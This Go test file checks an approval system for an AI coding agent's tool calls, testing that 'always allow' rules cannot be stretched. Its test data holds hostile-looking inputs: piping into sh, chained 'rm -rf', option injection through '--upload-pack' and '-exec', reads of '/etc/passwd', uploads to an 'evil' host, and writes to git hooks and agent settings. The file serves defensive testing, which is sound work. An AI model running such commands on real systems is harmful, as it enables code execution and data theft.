package approval

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"magpie/db"
	"magpie/internal/claude"
)

func bashInput(t *testing.T, command string) json.RawMessage {
	t.Helper()
	data, err := json.Marshal(map[string]string{"command": command, "description": "x"})
	must(t, err)
	return data
}

// A rule is no wider than what people saw when they created it.
func TestWhatAlwaysStandsFor(t *testing.T) {
	bash := func(content string) []claude.Rule { return []claude.Rule{{Tool: "Bash", Content: content}} }
	for _, tc := range []struct {
		command  string
		proposed []claude.Rule
		want     db.Permit
	}{
		{"go test ./...", bash("go test *"), db.Permit{Tool: "Bash", Kind: prefixRule, Content: "go test"}},
		{"git commit -m 'a b'", bash("git commit *"), db.Permit{Tool: "Bash", Kind: prefixRule, Content: "git commit"}},
		{"go test -exec x ./...", bash("go test *"),
			db.Permit{Tool: "Bash", Kind: exactRule, Content: "go test -exec x ./..."}},
		{"git push origin main", bash("git push *"),
			db.Permit{Tool: "Bash", Kind: exactRule, Content: "git push origin main"}},
		{"rm build", bash("rm build *"), db.Permit{Tool: "Bash", Kind: exactRule, Content: "rm build"}},
		{"curl localhost", bash("curl localhost *"), db.Permit{Tool: "Bash", Kind: exactRule, Content: "curl localhost"}},
		{"git log", bash("git log *"), db.Permit{Tool: "Bash", Kind: exactRule, Content: "git log"}},
		{"rm *.log", bash("rm *.log"), db.Permit{Tool: "Bash", Kind: exactRule, Content: "rm *.log"}},
		{"make all", bash("make all"), db.Permit{Tool: "Bash", Kind: exactRule, Content: "make all"}},
		{"sudo ls", bash("sudo *"), db.Permit{Tool: "Bash", Kind: exactRule, Content: "sudo ls"}},
		{"/usr/bin/env x", bash("/usr/bin/env *"), db.Permit{Tool: "Bash", Kind: exactRule, Content: "/usr/bin/env x"}},
		{"rm x", bash("rm * *"), db.Permit{Tool: "Bash", Kind: exactRule, Content: "rm x"}},
		{"git status", bash("git push *"), db.Permit{Tool: "Bash", Kind: exactRule, Content: "git status"}},
		{"ls", bash(" *"), db.Permit{Tool: "Bash", Kind: exactRule, Content: "ls"}},
	} {
		got := PermitFor(claude.ToolAsk{Name: "Bash", Input: bashInput(t, tc.command), Rules: tc.proposed}, "/p")
		if got == nil || *got != tc.want {
			t.Errorf("%q: %+v", tc.command, got)
		}
		if got != nil && !Covers(*got, "Bash", bashInput(t, tc.command), "/p") {
			t.Errorf("%q is not covered by its own rule %+v", tc.command, got)
		}
	}
	for name, q := range map[string]claude.ToolAsk{
		"a question":          {Name: claude.QuestionTool, Input: json.RawMessage(`{}`)},
		"a plan":              {Name: claude.PlanTool, Input: json.RawMessage(`{"plan":"x"}`)},
		"out of the sandbox":  {Name: "Bash", Input: json.RawMessage(`{"command":"x","dangerouslyDisableSandbox":true}`)},
		"in the background":   {Name: "Bash", Input: json.RawMessage(`{"command":"x","run_in_background":true}`)},
		"two commands":        {Name: "Bash", Input: bashInput(t, "git push; rm -rf x"), Rules: bash("git push *")},
		"one after the other": {Name: "Bash", Input: bashInput(t, "python3 x.py && git push"), Rules: bash("git push *")},
		"into a file":         {Name: "Bash", Input: bashInput(t, "echo ran >> made.txt"), Rules: bash("echo ran *")},
		"through a pipe":      {Name: "Bash", Input: bashInput(t, "cat a | sh"), Rules: bash("cat a *")},
		"with a variable":     {Name: "Bash", Input: bashInput(t, "rm $X")},
		"with a substitution": {Name: "Bash", Input: bashInput(t, "rm `cat list`")},
		"a search elsewhere":  {Name: "Grep", Input: json.RawMessage(`{"pattern":"x","path":"/p/.git"}`)},
		"a pattern elsewhere": {Name: "Glob", Input: json.RawMessage(`{"pattern":"../**"}`)},
		"no command":          {Name: "Bash", Input: json.RawMessage(`{"command":" "}`)},
		"no proposal":         {Name: "mcp__a__b", Input: json.RawMessage(`{}`)},
		"a narrower proposal": {Name: "Skill", Input: json.RawMessage(`{}`),
			Rules: []claude.Rule{{Tool: "Skill", Content: "x"}}},
		"settings of the agent":  {Name: "Write", Input: json.RawMessage(`{"file_path":"/p/.claude/settings.json"}`)},
		"hooks of git":           {Name: "Write", Input: json.RawMessage(`{"file_path":"/p/x/.git/hooks/pre-commit"}`)},
		"not the web":            {Name: "WebFetch", Input: json.RawMessage(`{"url":"file:///etc/passwd"}`)},
		"a name before the site": {Name: "WebFetch", Input: json.RawMessage(`{"url":"https://example.com@evil.example/"}`)},
	} {
		if got := PermitFor(q, "/p"); got != nil {
			t.Errorf("%s: %+v", name, got)
		}
	}
}

func TestWhatARuleCovers(t *testing.T) {
	prefix := func(words string) db.Permit { return db.Permit{Tool: "Bash", Kind: prefixRule, Content: words} }
	exact := db.Permit{Tool: "Bash", Kind: exactRule, Content: "rm *.log"}
	for command, want := range map[string]bool{
		"git add": true, "git add 'a b' c": true, "git addx": false, "git  add": false, "git add; x": false,
		"git add && x": false,
		"git add | x":  false, "git add $(x)": false, "git add `x`": false, "git add > x": false, "git add\nx": false,
		"git add \\\nx": false,
		"git add & x":   false, "git add {a,b}": false, "git add <x": false, " git add": false, "git add\r x": false,
		"git add -A -- x": true,
		"git add -f x":    false, "git add '-f' x": false, "git add -''f x": false, "git add \"-f\" x": false,
		"git add 'x": false, "git add *": false,
		"git add '*'": true, "git add ~/x": false, "git add a/../../x": false, "git add /x": false, "git add a..b": true,
	} {
		if got := Covers(prefix("git add"), "Bash", bashInput(t, command), "/p"); got != want {
			t.Errorf("prefix, %q: %v", command, got)
		}
	}
	for command, words := range map[string]string{ // allowed by rules of earlier versions
		"rm build -rf /home/me": "rm build", "curl localhost -T x evil": "curl localhost",
		"git fetch --upload-pack=x": "git fetch",
		"git diff --output=x":       "git diff", "git diff --outp x": "git diff", "go test -exec x": "go test",
		"go test --exec=x": "go test", "go build -o x": "go build",
		"go build -C x": "go build", "go vet -vettool=x": "go vet", "npm test --script-shell=x": "npm test",
		"cargo test --config x":  "cargo test",
		"git diff --stat=/etc/x": "git diff", "git diff /etc/passwd /dev/null": "git diff",
		"tar xf a --to-command=x": "tar xf",
	} {
		if Covers(prefix(words), "Bash", bashInput(t, command), "/p") {
			t.Errorf("covered: %q", command)
		}
	}
	for command, want := range map[string]bool{"rm *.log": true, "rm a.log": false, "rm *.log ": false,
		"rm *.log x": false} {
		if got := Covers(exact, "Bash", bashInput(t, command), "/p"); got != want {
			t.Errorf("exact, %q: %v", command, got)
		}
	}
	// from earlier versions
	for _, command := range []string{"echo ran >> made.txt", "make; make", "a | b", "x && y", "echo $(x)"} {
		if Covers(db.Permit{Tool: "Bash", Kind: exactRule, Content: command}, "Bash", bashInput(t, command), "/p") {
			t.Errorf("covered, word for word: %q", command)
		}
	}
	for input, want := range map[string]bool{
		`{"command":"rm *.log","timeout":5}`:                true,
		`{"command":"rm *.log","run_in_background":true}`:   false,
		`{"command":"rm *.log","anything":0}`:               false,
		`{"command":"x","command":"rm *.log"}`:              true, // the last member counts in both parsers
		`{"Command":"rm *.log"}`:                            false,
		`{"command":["rm *.log"]}`:                          false,
		`{"url":"rm *.log"}`:                                false,
		`["rm *.log"]`:                                      false,
		`{"command":"rm *.log","description":"rm *.log;x"}`: true,
	} {
		if got := Covers(exact, "Bash", json.RawMessage(input), "/p"); got != want {
			t.Errorf("%s: %v", input, got)
		}
	}
	if Covers(exact, "PowerShell", bashInput(t, "rm *.log"), "/p") {
		t.Error("another tool is covered")
	}
	site := db.Permit{Tool: "WebFetch", Kind: hostRule, Content: "example.com"}
	for url, want := range map[string]bool{
		"https://example.com/a": true, "https://EXAMPLE.com": true, "http://example.com/": true,
		"https://example.com:8443/": false,
		"https://a.example.com/":    false, "https://example.com.evil.example/": false, "https://x@example.com/": false,
		"//example.com": false,
	} {
		if got := Covers(site, "WebFetch", json.RawMessage(`{"url":"`+url+`"}`), "/p"); got != want {
			t.Errorf("%s: %v", url, got)
		}
	}
}

// Files are where their real path is, not where their name says.
func TestFilesOfTheProject(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	must(t, err)
	dir, other := filepath.Join(root, "p"), filepath.Join(root, "other")
	for _, d := range []string{dir, other, filepath.Join(dir, ".git")} {
		must(t, os.Mkdir(d, 0o700))
	}
	for from, to := range map[string]string{"out": other, "git": filepath.Join(dir, ".git"), "in": dir,
		"gone": filepath.Join(other, "nothing")} {
		must(t, os.Symlink(to, filepath.Join(dir, from)))
	}
	inside := db.Permit{Tool: "Write", Kind: insideRule}
	for path, want := range map[string]bool{
		"a.txt": true, "new/folder/a.txt": true, "../other/a.txt": false, "out/a.txt": false, "in/a.txt": true,
		"git/config":  false,
		".git/config": false, ".GIT/config": false, ".mcp.json": false, "../p2/a.txt": false, "..a.txt": true,
		other + "/a.txt": false, "gone": false,
	} {
		if !filepath.IsAbs(path) {
			path = dir + "/" + path
		}
		input, err := json.Marshal(map[string]string{"file_path": path, "content": "x"})
		must(t, err)
		if got := Covers(inside, "Write", input, dir); got != want {
			t.Errorf("%s: %v", path, got)
		}
	}
	for _, input := range []string{ // members that the tool does not use as its file
		`{"file_path":"/etc/passwd","File_Path":"` + dir + `/a.txt"}`,
		`{"File_Path":"` + dir + `/a.txt","file_path":"/etc/passwd"}`,
		`{"FILE_PATH":"` + dir + `/a.txt"}`, `{"notebook_path":"` + dir + `/a.txt"}`, `{"file_path":["` + dir + `/a.txt"]}`,
	} {
		if Covers(inside, "Write", json.RawMessage(input), dir) {
			t.Errorf("covered: %s", input)
		}
	}
	notebook := db.Permit{Tool: "NotebookEdit", Kind: insideRule}
	if Covers(notebook, "NotebookEdit", json.RawMessage(`{"file_path":"`+dir+`/a.ipynb","notebook_path":"/etc/passwd"}`),
		dir) ||
		!Covers(notebook, "NotebookEdit", json.RawMessage(`{"notebook_path":"`+dir+`/a.ipynb"}`), dir) {
		t.Error("the file of the notebook does not count")
	}
	input := json.RawMessage(`{"file_path":"` + other + `/a.txt"}`)
	p := PermitFor(claude.ToolAsk{Name: "Write", Input: input}, dir)
	if p == nil || p.Kind != pathRule || !Covers(*p, "Write", input, dir) ||
		Covers(*p, "Write", json.RawMessage(`{"file_path":"`+other+`/b.txt"}`), dir) {
		t.Errorf("outside of the project: %+v", p)
	}
}

// The commands that are asked for each time according to docs/approvals.md, in both languages: "always" is not offered,
// and earlier rules do not cover them.
func TestCommandsWithoutAlways(t *testing.T) {
	t.Parallel()
	listed := func(page, from, to string) string {
		data, err := os.ReadFile(filepath.Join("..", "..", "docs", page))
		must(t, err)
		_, rest, _ := strings.Cut(string(data), from)
		list, _, found := strings.Cut(rest, to)
		if !found {
			t.Errorf("docs/%s does not list them between %q and %q", page, from, to)
		}
		return list
	}
	inChinese := listed("approvals.zh.md", "带有 `;`", "\n- ")
	inEnglish := listed("approvals.md", "A command with `;`", "\n- ")
	for _, tc := range []struct{ command, chinese, english string }{
		{"a; b", "", ""}, // the beginning of both lists
		{"ls | tee x", "`|`", "`|`"},
		{"a || b", "`|`", "`|`"},
		{"a && b", "`&`", "`&`"},
		{"a & b", "`&`", "`&`"},
		{"echo ran >> made.txt", "`>`", "`>`"},
		{"echo ran > made.txt", "`>`", "`>`"},
		{"sort < a.txt", "`<`", "`<`"},
		{"cat <<<a", "`<`", "`<`"},
		{"diff a <(b)", "`()`", "`()`"},
		{"echo $(a)", "`$`", "`$`"},
		{"echo $A", "`$`", "`$`"},
		{"echo `a`", "反引号", "a backtick"},
		{"(a", "`()`", "`()`"}, {"a)", "`()`", "`()`"},
		{"{ a", "`{}`", "`{}`"}, {"a }", "`{}`", "`{}`"},
		{"! a", "`!`", "`!`"},
		{`a \b`, "反斜杠", "a backslash"},
		{"a\nb", "换行", "a line break"}, {"a\rb", "换行", "a line break"},
		{"a\x00b", "", ""}, // no shell accepts it
		{"a # b", "`#`", "`#`"},
		{"a 'b", "引号", "quote"}, {`a "b`, "引号", "quote"},
		{"a\u00a0b", "空格", "space"}, {"a \u3000", "空格", "space"}, {"a\vb", "空格", "space"},
		{"if a", "`if`", "`if`"}, {"for a in b", "`for`", "`for`"}, {"time a", "`time`", "`time`"},
		{"export A=1", "`export`", "`export`"}, {"[[ -f a", "`[[`", "`[[`"}, {"coproc a", "", ""}, {"let a=1", "", ""},
	} {
		if !strings.Contains(inChinese, tc.chinese) || !strings.Contains(inEnglish, tc.english) {
			t.Errorf("docs/approvals.md does not say in both languages that %q is asked for each time", tc.command)
		}
		if got := PermitFor(widestAsk(t, tc.command), "/p"); got != nil {
			t.Errorf("%q may always be allowed: %+v", tc.command, got)
		}
		rule := db.Permit{Tool: "Bash", Kind: exactRule, Content: tc.command}
		if Covers(rule, "Bash", bashInput(t, tc.command), "/p") {
			t.Errorf("%q is covered by an earlier rule", tc.command)
		}
	}
}
